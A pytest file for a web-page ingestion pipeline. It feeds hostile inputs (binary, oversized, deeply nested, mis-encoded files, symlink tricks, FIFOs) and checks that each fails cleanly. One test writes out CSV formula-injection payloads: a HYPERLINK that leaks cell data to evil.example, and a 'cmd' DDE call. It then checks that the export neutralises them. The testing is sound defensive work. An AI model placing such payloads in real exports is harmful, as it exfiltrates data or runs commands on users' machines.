"""Hostile inputs: each gives a clear per-file error or a correct result, never a crash
or a hang, and never loses the rows of the other pages.

Every case runs the real job (`runner.run`) on an input directory holding one good page
(Ghent's twin towns, from raw/) next to the hostile file; the good page's rows must come
out exactly as they do alone. The inputs are generated here (nothing large is committed).
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import shutil
import signal
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from pipeline.batch import pagelimit as page
from pipeline.batch.options import EXIT_FATAL, EXIT_OK, EXIT_PARTIAL, BatchOptions
from pipeline.batch.runner import run
from pipeline.models import Document, PageResult
from pipeline.stages.s1_ingest import files as ingest
from pipeline.stages.s8_export.tables import FORMULA_START

ROOT = Path(__file__).resolve().parents[1]
REALWORLD = Path(__file__).resolve().parents[2] / "shared" / "realworld-html"
GOOD = "gent_twin-towns_en.html"
GOOD_URL = "https://stad.gent/en/international/twin-towns-and-sister-cities"
TIME_LIMIT = 20.0
REAL_PROCESS = page.process_document
FR = "<p>La commune d'Ath est jumelée avec la ville de Fès (Maroc) depuis 1998.</p>"


def html(body: str) -> str:
    return f"<!DOCTYPE html><html><head><title>Jumelages</title></head><body><main>{body}</main></body></html>"


def build(tmp: Path, files: dict[str, bytes], urls: dict[str, str] | None = None) -> Path:
    inp = tmp / "in"
    inp.mkdir()
    shutil.copy(ROOT / "raw" / GOOD, inp / GOOD)
    lines = ["file,url,nis", f"{GOOD},{GOOD_URL},44021"]
    for name, url in (urls or {}).items():
        lines.append(f'{name},"{url.replace(chr(34), chr(34) * 2)}",51004')
    (inp / "sources.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    for name, data in files.items():
        (inp / name).write_bytes(data)
    return inp


def outputs(out: Path) -> tuple[dict[str, dict[str, str]], list[dict[str, str]], dict[str, object]]:
    rows = {r["partnership_id"]: r for r in csv.DictReader(io.StringIO((out / "partnerships.csv").read_text()))}
    errors = list(csv.DictReader(io.StringIO((out / "errors.csv").read_text())))
    return rows, errors, json.loads((out / "run.json").read_text())


@pytest.fixture(scope="module")
def good_rows(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, str]]:
    tmp = tmp_path_factory.mktemp("good")
    inp = build(tmp, {})
    assert run(inp, tmp / "out", BatchOptions(progress=False)) == EXIT_OK
    rows = outputs(tmp / "out")[0]
    assert rows
    return rows


def run_case(
    tmp: Path,
    files: dict[str, bytes],
    good_rows: dict[str, dict[str, str]],
    urls: dict[str, str] | None = None,
    time_limit: float = TIME_LIMIT,
    inp: Path | None = None,
) -> tuple[int, dict[str, dict[str, str]], list[dict[str, str]]]:
    inp = inp or build(tmp, files, urls)
    start = time.monotonic()
    code = run(inp, tmp / "out", BatchOptions(progress=False, time_limit=time_limit))
    elapsed = time.monotonic() - start
    assert code in (EXIT_OK, EXIT_PARTIAL)
    rows, errors, report = outputs(tmp / "out")
    for pid, row in good_rows.items():  # the good page's rows, untouched
        assert rows.get(pid) == row
    assert elapsed < time_limit + 30, f"run took {elapsed:.1f} s"
    assert report["exit_code"] == code
    return code, rows, errors


def error_of(errors: list[dict[str, str]], source: str) -> dict[str, str]:
    found = [e for e in errors if e["source"] == source]
    assert len(found) == 1, errors
    assert found[0]["message"]
    return found[0]


def tanger(rows: dict[str, dict[str, str]]) -> dict[str, str]:
    found = [r for r in rows.values() if r["partner"] == "Fès"]
    assert found, sorted(r["partner"] for r in rows.values())
    assert found[0]["country_code"] == "MA"
    return found[0]


def test_empty_file(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    code, _, errors = run_case(tmp_path, {"empty.html": b""}, good_rows)
    assert code == EXIT_PARTIAL
    assert error_of(errors, "empty.html")["error_type"] == "DecodeError"


def test_binary_file_named_html(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    noise = random.Random(4).randbytes(64 * 1024)
    code, _, errors = run_case(tmp_path, {"photo.html": b"\x89PNG\r\n\x1a\n\x00\x00" + noise}, good_rows)
    assert code == EXIT_PARTIAL
    err = error_of(errors, "photo.html")
    assert (err["stage"], err["error_type"]) == ("text", "DecodeError") and "binary" in err["message"]


def test_50_mb_page_is_refused_before_reading(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    para = (FR + "\n").encode()
    big = html("").encode().replace(b"<main>", b"<main>" + para * (50 * 1024 * 1024 // len(para) + 1))
    assert len(big) > 50 * 1024 * 1024
    code, _rows, errors = run_case(tmp_path, {"big.html": big}, good_rows, time_limit=5.0)
    assert code == EXIT_PARTIAL
    err = error_of(errors, "big.html")
    assert (err["stage"], err["error_type"]) == ("ingest", "FileTooLarge") and "byte limit" in err["message"]


def stuck_in_c(doc: Document, use_nlp: bool = True, prefilter: bool = True) -> PageResult:
    """What a page stuck in one long call into C code looks like: no signal gets through."""
    if doc.source_id == "stuck.html":
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
        time.sleep(600)
    return REAL_PROCESS(doc, use_nlp, prefilter)


@pytest.mark.parametrize("workers", [1, 2])
def test_a_page_stuck_in_c_code_is_stopped_at_the_limit(
    tmp_path: Path, good_rows: dict[str, dict[str, str]], monkeypatch: pytest.MonkeyPatch, workers: int
) -> None:
    monkeypatch.setattr(page, "process_document", stuck_in_c)  # the forked workers inherit it
    inp = build(tmp_path, {"stuck.html": html(FR).encode()})
    code = run(inp, tmp_path / "out", BatchOptions(progress=False, time_limit=2.0, workers=workers))
    assert code == EXIT_PARTIAL
    rows, errors, report = outputs(tmp_path / "out")
    err = error_of(errors, "stuck.html")
    assert (err["stage"], err["error_type"]) == ("timeout", "PageTimeout") and "2 s per-page" in err["message"]
    assert {pid: rows.get(pid) for pid in good_rows} == good_rows
    assert report["counts"]["timed_out"] == 1  # type: ignore[index]


@pytest.mark.parametrize("depth", [10_000, 100_000])
def test_deep_nesting_is_named(tmp_path: Path, good_rows: dict[str, dict[str, str]], depth: int) -> None:
    deep = html("<div>" * depth + FR + "</div>" * depth).encode()
    code, _, errors = run_case(tmp_path, {"deep.html": deep}, good_rows)
    assert code == EXIT_PARTIAL
    err = error_of(errors, "deep.html")
    assert (err["stage"], err["error_type"]) == ("text", "NestingTooDeep")


def test_invalid_utf8(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    data = html(FR).encode().replace(b"depuis", b"\xff\xfe\xc3 depuis")
    code, rows, _ = run_case(tmp_path, {"invalid.html": data}, good_rows, urls={"invalid.html": "https://www.ath.be/j"})
    assert code == EXIT_OK
    tanger(rows)


def test_utf16_with_bom(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    text = html("<p>Onze gemeente is verbroederd met de stad Fès (Marokko) sinds 1998.</p>")
    code, rows, _ = run_case(
        tmp_path,
        {"utf16.html": "\ufeff".encode("utf-16-le") + text.encode("utf-16-le")},
        good_rows,
        urls={"utf16.html": "https://www.ath.be/nl"},
    )
    assert code == EXIT_OK
    assert tanger(rows)["year"] == "1998"


def test_windows_1252_text_file(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    text = (
        "Relations internationales\n\n"
        "La commune d’Ath est jumelée avec la ville de Fès (Maroc) depuis 1998 – « œuvre » commune.\n"
    )
    code, rows, _ = run_case(
        tmp_path, {"cp1252.txt": text.encode("cp1252")}, good_rows, urls={"cp1252.txt": "https://www.ath.be/t"}
    )
    assert code == EXIT_OK
    assert "jumelée" in tanger(rows)["evidence"]


def test_formula_cells_are_neutralised(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    table = (
        "<h2>Jumelages</h2><table><tr><th>Ville</th><th>Pays</th><th>Depuis</th></tr>"
        '<tr><td>=HYPERLINK("http://evil.example/?leak="&A1,"Fès")</td><td>Maroc</td><td>1998</td></tr>'
        "<tr><td>+cmd|' /C calc'!A0</td><td>@SUM(1+1)</td><td>-2+3</td></tr></table>"
        '<p>La commune est jumelée avec =HYPERLINK("http://evil.example","Douai") (France).</p>'
    )
    files = {"formula.html": html(table).encode(), "empty_formula.html": b""}
    urls = {"formula.html": "https://www.ath.be/f", "empty_formula.html": '=HYPERLINK("http://evil.example","x")'}
    run_case(tmp_path, files, good_rows, urls=urls)
    out = tmp_path / "out"
    for name in ("partnerships.csv", "partnership_domains.csv", "errors.csv", "changes.csv"):
        for line in csv.reader(io.StringIO((out / name).read_text())):
            for cell in line:  # a negative number (a longitude) is a number, not a formula
                assert not cell.startswith(FORMULA_START) or re.fullmatch(r"-\d+(?:\.\d+)?", cell), (name, cell)
    errors = outputs(out)[1]
    assert error_of(errors, '\'=HYPERLINK("http://evil.example","x")')["error_type"] == "DecodeError"


def test_symlink_loops(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    inp = build(tmp_path, {})
    (inp / "sub").mkdir()
    (inp / "sub" / "back").symlink_to("..", target_is_directory=True)  # directory loop
    (inp / "self.html").symlink_to("self.html")  # a file link that points at itself
    code, _, errors = run_case(tmp_path, {}, good_rows, inp=inp)
    assert code == EXIT_PARTIAL
    err = error_of(errors, "self.html")
    assert err["stage"] == "ingest" and err["error_type"] == "OSError"


def test_file_disappears_during_the_run(
    tmp_path: Path, good_rows: dict[str, dict[str, str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    inp = build(
        tmp_path,
        {"gone.html": html(FR).encode(), "zz_after.html": html(FR).encode()},
        urls={"zz_after.html": "https://www.ath.be/z"},
    )
    real_walk: Callable[[Path], object] = ingest._walk

    def walk_then_delete(directory: Path):  # type: ignore[no-untyped-def]
        for path in real_walk(directory):  # type: ignore[attr-defined]
            if path.name == "gone.html":
                os.unlink(path)  # listed by the walk, gone before it is read
            yield path

    monkeypatch.setattr(ingest, "_walk", walk_then_delete)
    code, rows, errors = run_case(tmp_path, {}, good_rows, inp=inp)
    assert code == EXIT_PARTIAL
    err = error_of(errors, "gone.html")
    assert (err["stage"], err["error_type"]) == ("ingest", "FileNotFoundError")
    tanger(rows)  # the page after it is still read


@pytest.mark.skipif(not REALWORLD.is_dir(), reason="../shared/realworld-html not present")
def test_realworld_pages_pass_through(tmp_path: Path) -> None:
    pages = [p for p in REALWORLD.rglob("*") if p.suffix.lower() in ingest.PAGE_SUFFIXES and p.is_file()]
    start = time.monotonic()
    code = run(REALWORLD, tmp_path / "out", BatchOptions(progress=False, time_limit=60))
    assert code in (EXIT_OK, EXIT_PARTIAL), "the run did not write a dataset"
    _, errors, report = outputs(tmp_path / "out")
    counts = report["counts"]
    assert isinstance(counts, dict)
    assert counts["pages_seen"] == len(pages) and counts["failed"] == len(errors)
    assert counts["timed_out"] == 0, errors
    assert all(e["error_type"] and e["message"] for e in errors)
    assert time.monotonic() - start < 600


def test_file_name_not_valid_utf8(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    inp = build(tmp_path, {})
    with open(os.fsencode(inp) + b"/jumelage-caf\xe9.html", "wb") as fh:
        fh.write(html(FR).encode())
    code, _, errors = run_case(tmp_path, {}, good_rows, inp=inp)
    assert code == EXIT_PARTIAL
    err = error_of(errors, "jumelage-caf\\xe9.html")
    assert (err["stage"], err["error_type"]) == ("ingest", "InvalidFileName") and "UTF-8" in err["message"]


def warc_without_target_uri(path: Path) -> None:
    """A WARC file whose first response record lacks WARC-Target-URI; its second is fine."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    body = html(FR).encode()
    with path.open("wb") as fh:
        writer = WARCWriter(fh, gzip=False)
        for url in ("https://www.ath.be/sans-uri", "https://www.ath.be/jumelages"):
            record = writer.create_warc_record(
                url,
                "response",
                payload=io.BytesIO(body),
                length=len(body),
                http_headers=StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1"),
            )
            if url.endswith("sans-uri"):
                record.rec_headers.remove_header("WARC-Target-URI")
            writer.write_record(record)


def test_warc_without_target_uri(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    inp = build(tmp_path, {})
    warc_without_target_uri(inp / "bad.warc")
    code, rows, errors = run_case(tmp_path, {}, good_rows, inp=inp)
    assert code == EXIT_PARTIAL
    [err] = [e for e in errors if e["source"].startswith("bad.warc#<urn:uuid:")]
    assert (err["stage"], err["error_type"]) == ("ingest", "MissingTargetURI")
    assert "bad.warc" in err["message"] and "WARC-Target-URI" in err["message"]
    assert "https://www.ath.be/jumelages" in tanger(rows)["source_url"]  # the file's other record is read


def test_symlink_to_dev_zero_and_a_fifo_are_named_not_read(
    tmp_path: Path, good_rows: dict[str, dict[str, str]]
) -> None:
    inp = build(tmp_path, {})
    (inp / "zero.html").symlink_to("/dev/zero")
    os.mkfifo(inp / "pipe.html")  # opening it for reading would wait for a writer forever
    code, _, errors = run_case(tmp_path, {}, good_rows, inp=inp)
    assert code == EXIT_PARTIAL
    assert error_of(errors, "zero.html")["error_type"] == "OutsideInput"
    err = error_of(errors, "pipe.html")
    assert (err["stage"], err["error_type"]) == ("ingest", "NotRegularFile") and "FIFO" in err["message"]


def test_a_device_inside_the_input_is_not_read(tmp_path: Path) -> None:
    with pytest.raises(ingest.NotRegularFile, match="character device"):
        ingest.read_page(Path("/dev/zero"))
    big = tmp_path / "big.html"
    big.write_bytes(b"x" * 2048)
    with pytest.raises(ingest.FileTooLarge):
        ingest.read_page(big, limit=1024)


def test_symlinks_outside_the_input_are_not_followed(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "dir").mkdir(parents=True)
    (elsewhere / "secret.html").write_text(html(FR))
    (elsewhere / "dir" / "page.html").write_text(html(FR))
    inp = build(tmp_path, {})
    (inp / "inside").mkdir()
    (inp / "inside" / "page.html").write_text(html(FR.replace("Fès", "Meknès")))
    (inp / "secret.html").symlink_to(elsewhere / "secret.html")
    (inp / "linked-dir").symlink_to(elsewhere / "dir", target_is_directory=True)
    (inp / "alias.html").symlink_to(inp / "inside" / "page.html")  # inside: followed
    code, rows, errors = run_case(tmp_path, {}, good_rows, inp=inp)
    assert code == EXIT_PARTIAL
    assert error_of(errors, "secret.html")["error_type"] == "OutsideInput"
    assert error_of(errors, "linked-dir")["error_type"] == "OutsideInput"
    assert not [r for r in rows.values() if r["partner"] == "Fès"]  # the outside page was not read
    assert [r for r in rows.values() if r["partner"] == "Meknès"]


def test_sources_csv_problems_are_warnings_in_the_log_and_run_json(
    tmp_path: Path, good_rows: dict[str, dict[str, str]], caplog: pytest.LogCaptureFixture
) -> None:
    inp = build(
        tmp_path,
        {"ath.html": html(FR).encode()},
        urls={"ath.html": "https://www.ath.be/j", "missing.html": "https://www.ath.be/m"},
    )
    with (inp / "sources.csv").open("a") as fh:
        fh.write("ath2.html,https://www.ath.be/k,99999\n")
    (inp / "ath2.html").write_text(html(FR))
    (inp / "sub").mkdir()
    (inp / "sub" / "sources.csv").write_text("file,url\nx.html,https://x.be/\n")
    code, _, errors = run_case(tmp_path, {}, good_rows, inp=inp)
    assert code == EXIT_OK and errors == []
    warnings = json.loads((tmp_path / "out" / "run.json").read_text())["warnings"]
    assert len(warnings) == 3, warnings
    assert any("missing.html not found" in w for w in warnings)
    assert any("unknown NIS code '99999'" in w for w in warnings)
    assert any("sub/sources.csv" in w and "ignored" in w for w in warnings)
    logged = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert all(any(w in m for m in logged) for w in warnings)


def test_every_page_failed_still_writes_errors_csv(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
    out = tmp_path / "out"
    run_case(tmp_path, {}, good_rows)  # a first dataset
    published = (out / "partnerships.csv").read_bytes()
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "empty.html").write_bytes(b"")
    (bad / "photo.html").write_bytes(b"\x00\x01" * 100)
    assert run(bad, out, BatchOptions(progress=False)) == EXIT_FATAL
    assert (out / "partnerships.csv").read_bytes() == published  # the previous dataset stays
    errors = list(csv.DictReader(io.StringIO((out / "failed-run" / "errors.csv").read_text())))
    assert sorted(e["source"] for e in errors) == ["empty.html", "photo.html"]
    assert json.loads((out / "failed-run" / "run.json").read_text())["exit_code"] == EXIT_FATAL
    assert run(tmp_path / "in", out, BatchOptions(progress=False)) == EXIT_OK
    assert not (out / "failed-run").exists()  # a committed run clears the failed run's report


def test_skipped_files_and_empty_text_are_counted(
    tmp_path: Path, good_rows: dict[str, dict[str, str]], caplog: pytest.LogCaptureFixture
) -> None:
    # partnership wording in the title only: read (the pre-filter keeps it), no main text
    empty_text = b"<html><head><title>Jumelages</title></head><body><script>x=1</script></body></html>"
    no_wording = b"<html><head><title>Accueil</title></head><body><p>Horaires</p></body></html>"
    inp = build(
        tmp_path,
        {
            "MANIFEST.tsv": b"a\tb\n",
            "pages.gz": b"\x1f\x8b",
            "blob.bin": b"\x00",
            "blank.html": empty_text,
            "home.html": no_wording,
        },
    )
    caplog.set_level("INFO")
    code = run(inp, tmp_path / "out", BatchOptions(progress=False, verbose=True))
    assert code == EXIT_OK
    report = json.loads((tmp_path / "out" / "run.json").read_text())
    assert report["counts"]["skipped_files"] == 3
    assert report["counts"]["empty_text"] == 1 and report["empty_text_pages"] == ["blank.html"]
    assert report["counts"]["no_partnership_wording"] == 1  # home.html: stopped after decoding
    listed = " ".join(r.getMessage() for r in caplog.records)
    assert all(name in listed for name in ("MANIFEST.tsv", "pages.gz", "blob.bin"))
    assert "3 files skipped" in listed


def test_output_path_that_is_a_file(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    inp = build(tmp_path, {})
    (tmp_path / "out.csv").write_text("not a directory")
    assert run(inp, tmp_path / "out.csv", BatchOptions(progress=False)) == EXIT_FATAL
    assert any("output path is not a directory" in r.getMessage() for r in caplog.records)


def test_a_directory_that_cannot_be_listed_is_named(
    tmp_path: Path, good_rows: dict[str, dict[str, str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    inp = build(tmp_path, {})
    (inp / "locked").mkdir()
    (inp / "locked" / "page.html").write_text(html(FR))
    real_scandir, real_listdir = os.scandir, os.listdir

    def refuse(path: object) -> object:
        if str(path).endswith("locked"):
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "scandir", refuse)  # what a chmod 000 directory does (root ignores chmod)
    monkeypatch.setattr(os, "listdir", lambda path: refuse(path) and real_listdir(path))  # type: ignore[arg-type]
    code, _, errors = run_case(tmp_path, {}, good_rows, inp=inp)
    assert code == EXIT_PARTIAL
    err = error_of(errors, "locked")
    assert (err["stage"], err["error_type"]) == ("ingest", "PermissionError")
